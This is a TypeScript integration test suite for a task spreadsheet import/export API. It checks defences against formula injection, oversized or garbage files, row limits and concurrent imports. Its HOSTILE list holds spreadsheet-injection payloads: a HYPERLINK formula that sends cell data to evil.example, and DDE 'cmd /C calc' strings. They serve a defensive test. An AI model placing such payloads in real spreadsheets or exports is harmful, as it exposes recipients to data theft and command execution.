import { Client } from '@temporalio/client';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { randomBytes, randomUUID } from 'node:crypto';
import { seedOrganization } from '../../db/seeds/demo-organization';
import { csvRows } from '../../libs/tasks/transfer/sheet-reader';
import { codedTaskId } from '../../libs/tasks/task-ids';
import { TEMPORAL_CLIENT } from '../../libs/temporal/temporal-client.module';
import { TestStack } from '../support/test-stack';
import { TaskTransferService } from '../../libs/tasks/transfer/task-transfer.service';
import { TaskCommandsService } from '../../libs/tasks/task-commands.service';
import { TaskQueryService } from '../../libs/tasks/task-query.service';
import { ConfigService } from '@nestjs/config';

const KEYS = [
  'ma_nhiem_vu',
  'ten_nhiem_vu',
  'don_vi_chu_tri',
  'don_vi_phoi_hop',
  'nguon_giao',
  'van_ban_giao',
  'ngay_van_ban',
  'ngay_giao',
  'han_xu_ly',
  'ngay_hoan_thanh',
  'ket_qua',
  'ma_nhiem_vu_cha',
];

const MAX_ROWS = 50;
const MAX_BYTES = 4 * 1024 * 1024;

/** A row with only code, title, lead unit, source and the given extras set. */
const row = (code: string, title: string, extra: Record<string, string> = {}): string[] => {
  const r: Record<string, string> = {
    ma_nhiem_vu: code,
    ten_nhiem_vu: title,
    don_vi_chu_tri: 'SKHDT',
    nguon_giao: 'ubnd_tinh',
    ngay_giao: '05/01/2024',
    ...extra,
  };
  return KEYS.map((k) => r[k] ?? '');
};

const csvCell = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
const csv = (rows: string[][]) =>
  Buffer.from([KEYS, ...rows].map((r) => r.map(csvCell).join(',')).join('\r\n'));

async function xlsx(rows: unknown[][]): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Nhiệm vụ');
  ws.addRow(KEYS);
  for (const r of rows) ws.addRow(r);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

/** A sheet with the header and then `n` rows that hold only styled, empty cells. */
async function emptyRowsXlsx(n: number, thenData?: string[]): Promise<Buffer> {
  const zip = await JSZip.loadAsync(await xlsx([]));
  const path = 'xl/worksheets/sheet1.xml';
  const sheet = await zip.file(path)!.async('string');
  const parts: string[] = [];
  for (let r = 2; r <= n + 1; r++)
    parts.push(`<row r="${r}"><c r="A${r}" s="1"/><c r="B${r}" s="1"/></row>`);
  if (thenData) {
    const r = n + 2;
    parts.push(
      `<row r="${r}">${thenData
        .map(
          (v, i) =>
            `<c r="${String.fromCharCode(65 + i)}${r}" t="inlineStr"><is><t>${v}</t></is></c>`,
        )
        .join('')}</row>`,
    );
  }
  zip.file(
    path,
    sheet
      .replace('</sheetData>', `${parts.join('')}</sheetData>`)
      .replace(/<dimension[^>]*\/>/, ''),
  );
  return zip.generateAsync({
    type: 'nodebuffer',
    compression: 'DEFLATE',
    compressionOptions: { level: 1 },
  });
}

const binary = (res: NodeJS.ReadableStream, done: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => done(null, Buffer.concat(chunks)));
};

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
];

describe('Task sheets hold against formula injection, garbage, huge files and parallel imports', () => {
  let stack: TestStack;
  let leader: string;
  let temporal: Client;

  beforeAll(async () => {
    stack = await TestStack.start({
      env: { IMPORT_MAX_ROWS: String(MAX_ROWS), IMPORT_MAX_FILE_BYTES: String(MAX_BYTES) },
    });
    await seedOrganization(stack.api);
    leader = await stack.login('chutich');
    temporal = stack.api.get<Client>(TEMPORAL_CLIENT);
  });
  afterAll(() => stack.close());

  const upload = (file: Buffer, name: string, token = leader, query = '') =>
    stack.http
      .post(`/api/v1/task-sheets/import${query}`)
      .set('Authorization', `Bearer ${token}`)
      .attach('file', file, name);
  const download = (path: string, token = leader) =>
    stack.http
      .get(path)
      .set('Authorization', `Bearer ${token}`)
      .buffer(true)
      .parse(binary as never)
      .expect(200);
  const taskCount = async () =>
    (await stack.db.query('SELECT count(*)::int AS n FROM tasks'))[0].n as number;
  const workflowIds = async () => {
    const ids: string[] = [];
    for await (const wf of temporal.workflow.list({
      query: `TaskQueue = '${stack.env.TEMPORAL_TASK_QUEUE}' AND WorkflowType = 'taskLifecycle'`,
    })) {
      ids.push(wf.workflowId);
    }
    return ids.sort();
  };
  /** Every task's workflow, once visibility has caught up with the rows (all made by imports). */
  const settledWorkflowIds = async () => {
    const tasks = await taskCount();
    const ids = await stack.eventually(async () => {
      const now = await workflowIds();
      return now.length === tasks ? now : null;
    }, 15_000);
    expect(ids?.length).toBe(tasks);
    return ids!;
  };
  const titleOf = async (code: string, unit = 'UBND') =>
    (
      await stack.db.query(
        `SELECT t.title FROM tasks t JOIN units u ON u.id = t.assigning_unit_id
         WHERE t.code = $1 AND u.code = $2`,
        [code, unit],
      )
    )[0]?.title;

  it('exports formula-like text with an apostrophe in CSV and as plain strings in XLSX, and imports its own CSV back unchanged', async () => {
    const rows = HOSTILE.map((t, i) =>
      row(`HX-${i}`, t, { han_xu_ly: '31/01/2024', ket_qua: '', don_vi_phoi_hop: '' }),
    );
    expect((await upload(await xlsx(rows), 'doc-hai.xlsx').expect(201)).body).toEqual({
      imported: HOSTILE.length,
      skipped: 0,
    });
    // A tab or carriage return cannot come through an import (cells are trimmed): set one directly.
    await stack.db.query(`UPDATE tasks SET title = $1 WHERE code = 'HX-0'`, [`\t${HOSTILE[0]}`]);
    const titles = [`\t${HOSTILE[0]}`, ...HOSTILE.slice(1)];

    const csvText = (await download('/api/v1/task-sheets/export.csv')).body.toString('utf8');
    const exported = [...csvRows(csvText)].slice(1).map((r) => r.cells);
    const byCode = new Map(exported.map((cells) => [cells[0], cells]));
    titles.forEach((title, i) => expect(byCode.get(`HX-${i}`)![1]).toBe(`'${title}`));
    expect(csvText).not.toMatch(/(^|[,\n])"?[=+@]/);
    expect(byCode.get('HX-0')![7]).toBe('05/01/2024'); // dates and codes are untouched

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await download('/api/v1/task-sheets/export.xlsx')).body);
    const sheet = wb.worksheets[0];
    const cells = new Map<string, ExcelJS.Cell>();
    sheet.eachRow((r, n) => n > 1 && cells.set(String(r.getCell(1).value), r.getCell(2)));
    titles.forEach((title, i) => {
      const cell = cells.get(`HX-${i}`)!;
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(title);
    });

    // The report's overdue list carries the same titles: plain strings, never formulas.
    const report = new ExcelJS.Workbook();
    await report.xlsx.load(
      (
        await download(
          '/api/v1/reports/completion.xlsx?scope=UBND&from=2024-01-01&to=2024-12-31&groupBy=unit',
        )
      ).body,
    );
    const overdue = report.getWorksheet('Quá hạn chưa hoàn thành')!;
    const listed: ExcelJS.Cell[] = [];
    overdue.eachRow((r, n) => n > 1 && listed.push(r.getCell(3)));
    expect(listed.map((c) => c.value).sort()).toEqual([...titles].sort());
    for (const c of listed) expect(c.type).toBe(ExcelJS.ValueType.String);

    // Another unit imports the exported CSV: the apostrophes come off, the titles are the originals.
    const manager = await stack.login('skhdt.giamdoc');
    const back = await upload(Buffer.from(csvText), 'nhiem-vu.csv', manager).expect(201);
    expect(back.body).toEqual({ imported: HOSTILE.length, skipped: 0 });
    for (const [i, title] of titles.entries()) {
      expect(await titleOf(`HX-${i}`, 'SKHDT')).toBe(title.trim()); // cells are trimmed on import
    }
  });

  it('imports formula, rich-text and hyperlink cells as the text they show', async () => {
    const file = await xlsx([
      [
        { formula: 'CONCATENATE("RT-","1")', result: 'RT-1' },
        { richText: [{ text: 'Rà soát ' }, { font: { bold: true }, text: 'thủ tục hành chính' }] },
        'SKHDT',
        '',
        'ubnd_tinh',
      ],
      [
        'RT-2',
        { text: 'Số hóa hồ sơ', hyperlink: 'http://dichvucong.gov.vn' },
        { formula: 'UPPER("skhdt")', result: 'SKHDT' },
        '',
        { text: { richText: [{ text: 'UBND tỉnh' }] }, hyperlink: 'http://ubnd.example' },
      ],
    ]);
    expect((await upload(file, 'o-dac-biet.xlsx').expect(201)).body).toEqual({
      imported: 2,
      skipped: 0,
    });
    expect(await titleOf('RT-1')).toBe('Rà soát thủ tục hành chính');
    expect(await titleOf('RT-2')).toBe('Số hóa hồ sơ');
    const [{ n }] = await stack.db.query(
      `SELECT count(*)::int AS n FROM tasks WHERE title LIKE '%[object Object]%' OR source <> 'ubnd_tinh'`,
    );
    expect(n).toBe(0);
  });

  it('answers 413 for a file over the size limit and 400 naming the row past the row limit, storing nothing', async () => {
    const before = await taskCount();
    const big = await upload(randomBytes(MAX_BYTES + 1024), 'lon.xlsx').expect(413);
    expect(big.body).toMatchObject({
      statusCode: 413,
      code: 'IMPORT_TOO_LARGE',
      details: [{ field: 'file', rule: 'maxSize' }],
    });
    const many = Array.from({ length: MAX_ROWS + 5 }, (_, i) => row(`RL-${i}`, `Nhiệm vụ ${i}`));
    for (const [file, name] of [
      [await xlsx(many), 'nhieu.xlsx'],
      [csv(many), 'nhieu.csv'],
    ] as const) {
      const res = await upload(file, name).expect(400);
      expect(res.body).toMatchObject({
        code: 'IMPORT_TOO_MANY_ROWS',
        details: [{ field: `row ${MAX_ROWS + 2}`, rule: 'maxRows' }],
      });
    }
    expect(await taskCount()).toBe(before);
  });

  it('skips empty rows cheaply and stops a sheet of 200,000 of them at the scan limit without growing memory', async () => {
    const withData = await emptyRowsXlsx(3000, row('ER-1', 'Sau nhiều dòng trống'));
    expect((await upload(withData, 'trong.xlsx').expect(201)).body).toEqual({
      imported: 1,
      skipped: 0,
    });

    const file = await emptyRowsXlsx(200_000);
    expect(file.length).toBeLessThan(MAX_BYTES);
    global.gc?.();
    const rssBefore = process.memoryUsage().rss;
    let peak = rssBefore;
    const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 25);
    const started = Date.now();
    let res;
    try {
      res = await upload(file, 'trong-200k.xlsx');
    } finally {
      clearInterval(sampler);
    }
    const elapsed = Date.now() - started;
    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({
      code: 'IMPORT_TOO_MANY_ROWS',
      details: [{ field: 'row 10001', rule: 'maxLines' }],
    });
    expect(elapsed).toBeLessThan(20_000);
    // The whole-sheet reader this replaces grew the process by ≈ 750 MB on such a file.
    expect(peak - rssBefore).toBeLessThan(150 * 1024 * 1024);
  });

  it('answers 400 IMPORT_UNREADABLE for empty, text and random files, never 500', async () => {
    const good = await xlsx([row('GB-1', 'Hợp lệ')]);
    for (const [file, name] of [
      [Buffer.alloc(0), 'rong.xlsx'],
      [Buffer.from('Đây là văn bản, không phải bảng tính\n'), 'van-ban.xlsx'],
      [randomBytes(20_000), 'ngau-nhien.xlsx'],
      [good.subarray(0, good.length >> 1), 'cat-doi.xlsx'],
      [randomBytes(20_000), 'ngau-nhien.csv'],
    ] as const) {
      const res = await upload(file, name);
      expect([res.status, res.body.code, name]).toEqual([400, 'IMPORT_UNREADABLE', name]);
      expect(res.body.details).toEqual([expect.objectContaining({ field: 'file' })]);
    }
    expect(await titleOf('GB-1')).toBeUndefined();
  });

  it('refuses long titles and codes, NUL, unknown plans and parent cycles before starting anything, naming row and column', async () => {
    const tasksBefore = await taskCount();
    const workflowsBefore = await settledWorkflowIds();
    const res = await upload(
      csv([
        row('BV-1', 'x'.repeat(501)),
        row(`BV-${'9'.repeat(62)}`, 'Mã quá dài'),
        row('BV-3', 'Có ký tự \u0000 NUL'),
        row('BV-4', 'Tự làm cha của mình', { ma_nhiem_vu_cha: 'BV-4' }),
        row('BV-5', 'Vòng A', { ma_nhiem_vu_cha: 'BV-6' }),
        row('BV-6', 'Vòng B', { ma_nhiem_vu_cha: 'BV-5' }),
        row('BV-7', 'Hợp lệ', { ma_nhiem_vu_cha: 'BV-5' }),
      ]),
      'xau.csv',
    ).expect(400);
    expect(res.body.code).toBe('IMPORT_REJECTED');
    const found = res.body.details.map((d: { field: string; rule: string }) => [d.field, d.rule]);
    expect(found).toEqual(
      expect.arrayContaining([
        ['row 2: ten_nhiem_vu', 'maxLength'],
        ['row 3: ma_nhiem_vu', 'maxLength'],
        ['row 4: ten_nhiem_vu', 'text'],
        ['row 5: ma_nhiem_vu_cha', 'parentCycle'],
        ['row 6: ma_nhiem_vu_cha', 'parentCycle'],
        ['row 7: ma_nhiem_vu_cha', 'parentCycle'],
      ]),
    );
    expect(found.filter(([f]: string[]) => f.startsWith('row 8'))).toEqual([]);
    for (const d of res.body.details) expect(d.message).toMatch(/^Dòng \d+: /);

    const lone = await JSZip.loadAsync(await xlsx([row('BV-8', 'Ký tự LONE lẻ')]));
    const strings = await lone.file('xl/sharedStrings.xml')!.async('string');
    lone.file('xl/sharedStrings.xml', strings.replace('LONE', '&#xD800;'));
    const loneRes = await upload(await lone.generateAsync({ type: 'nodebuffer' }), 'le.xlsx');
    expect(loneRes.status).toBe(400);

    const noPlan = await upload(
      csv([row('BV-9', 'Vào kế hoạch không có')]),
      'kh.csv',
      leader,
      `?planId=${randomUUID()}`,
    ).expect(400);
    expect(noPlan.body).toMatchObject({
      code: 'IMPORT_REJECTED',
      details: [{ field: 'planId', rule: 'exists' }],
    });

    expect(await taskCount()).toBe(tasksBefore);
    expect(await settledWorkflowIds()).toEqual(workflowsBefore);
  });

  it('answers 20 parallel imports of one 3-row sheet within 10 s, storing 3 tasks with 3 workflows, and a re-import at once', async () => {
    const codes = ['PR-1', 'PR-2', 'PR-3'];
    const file = await xlsx([
      row('PR-1', 'Nhiệm vụ song song 1'),
      row('PR-2', 'Nhiệm vụ song song 2', { ma_nhiem_vu_cha: 'PR-1' }),
      row('PR-3', 'Nhiệm vụ song song 3', { han_xu_ly: '31/12/2099' }),
    ]);
    const workflowsBefore = await settledWorkflowIds();
    const answers = await Promise.all(
      Array.from({ length: 20 }, async () => {
        const started = Date.now();
        const res = await upload(file, 'song-song.xlsx');
        return { status: res.status, body: res.body, ms: Date.now() - started };
      }),
    );
    for (const a of answers) {
      expect(a.ms).toBeLessThan(10_000);
      if (a.status === 201) expect(a.body.imported + a.body.skipped).toBe(3);
      else expect([a.status, a.body.code]).toEqual([409, 'IMPORT_IN_PROGRESS']);
    }
    expect(answers.filter((a) => a.status === 201).length).toBeGreaterThan(0);

    const stored = await stack.db.query(
      `SELECT t.id, t.code, t.workflow_id AS "workflowId", p.code AS parent
       FROM tasks t JOIN units u ON u.id = t.assigning_unit_id
       LEFT JOIN tasks p ON p.id = t.parent_task_id
       WHERE t.code = ANY($1) AND u.code = 'UBND' ORDER BY t.code`,
      [codes],
    );
    const [{ id: ubnd }] = await stack.db.query(`SELECT id FROM units WHERE code = 'UBND'`);
    expect(stored).toEqual(
      codes.map((code) => ({
        id: codedTaskId(ubnd, code),
        code,
        workflowId: `task-${codedTaskId(ubnd, code)}`,
        parent: code === 'PR-2' ? 'PR-1' : null,
      })),
    );
    const expectedIds = [
      ...workflowsBefore,
      ...stored.map((s: { workflowId: string }) => s.workflowId),
    ].sort();
    expect(await settledWorkflowIds()).toEqual(expectedIds);

    // Another file of the same unit while one is being imported: 409, nothing half-done.
    const other = await xlsx([row('PR-9', 'Tệp khác')]);
    const [first, second] = await Promise.all([
      upload(await xlsx([row('PR-8', 'Tệp đang nhập'), row('PR-7', 'Tệp đang nhập 2')]), 'a.xlsx'),
      new Promise((r) => setTimeout(r, 20)).then(() => upload(other, 'b.xlsx')),
    ]);
    expect(first.status).toBe(201);
    expect([201, 409]).toContain(second.status);
    if (second.status === 409) expect(second.body.code).toBe('IMPORT_IN_PROGRESS');

    const started = Date.now();
    const again = await upload(file, 'song-song.xlsx').expect(201);
    expect(again.body).toEqual({ imported: 0, skipped: 3 });
    expect(Date.now() - started).toBeLessThan(5_000);
    const [{ n }] = await stack.db.query(
      `SELECT count(*)::int AS n FROM tasks WHERE code = ANY($1)`,
      [codes],
    );
    expect(n).toBe(3);
    expect(await settledWorkflowIds()).toEqual(expect.arrayContaining(expectedIds));
  });

  it('lets two API processes import one sheet at once: the same tasks, one workflow each, never a hang', async () => {
    const [chutich] = await stack.db.query(
      `SELECT u.id, u.username, u.full_name AS "fullName", u.unit_id AS "unitId",
              un.path AS "unitPath", un.kind AS "unitKind", u.roles
       FROM users u JOIN units un ON un.id = u.unit_id WHERE u.username = 'chutich'`,
    );
    const service = stack.api.get(TaskTransferService);
    // Separate instances share nothing in memory, as separate processes would not.
    const processes = Array.from(
      { length: 6 },
      () =>
        new TaskTransferService(
          stack.db,
          stack.api.get(TaskCommandsService),
          stack.api.get(TaskQueryService),
          stack.api.get(ConfigService),
        ),
    );
    expect(processes[0]).not.toBe(service);
    const codes = ['PX-1', 'PX-2', 'PX-3'];
    const file = await xlsx([
      row('PX-1', 'Hai tiến trình 1'),
      row('PX-2', 'Hai tiến trình 2', { ma_nhiem_vu_cha: 'PX-1' }),
      row('PX-3', 'Hai tiến trình 3'),
    ]);
    const before = await settledWorkflowIds();
    const outcomes = await Promise.all(
      processes.map(async (p) => {
        const started = Date.now();
        const result = await p.import(chutich, file, 'xlsx', null).then(
          (value) => ({ value }),
          (error: { status?: number; code?: string }) => ({ error }),
        );
        return { ...result, ms: Date.now() - started };
      }),
    );
    for (const o of outcomes) {
      expect(o.ms).toBeLessThan(10_000);
      if ('value' in o) expect(o.value.imported + o.value.skipped).toBe(3);
      else expect([o.error.status, o.error.code]).toEqual([409, 'IMPORT_IN_PROGRESS']);
    }
    // Each row counts as imported by the one process that started it, skipped by the others.
    const results = outcomes.flatMap((o) => ('value' in o ? [o.value] : []));
    if (results.length === outcomes.length) {
      expect(results.reduce((sum, r) => sum + r.imported, 0)).toBe(3);
    }
    const [{ n }] = await stack.db.query(
      `SELECT count(*)::int AS n FROM tasks WHERE code = ANY($1)`,
      [codes],
    );
    expect(n).toBe(3);
    const after = await settledWorkflowIds();
    expect(after.length).toBe(before.length + 3);
    expect(await processes[0].import(chutich, file, 'xlsx', null)).toEqual({
      imported: 0,
      skipped: 3,
    });
  });
});
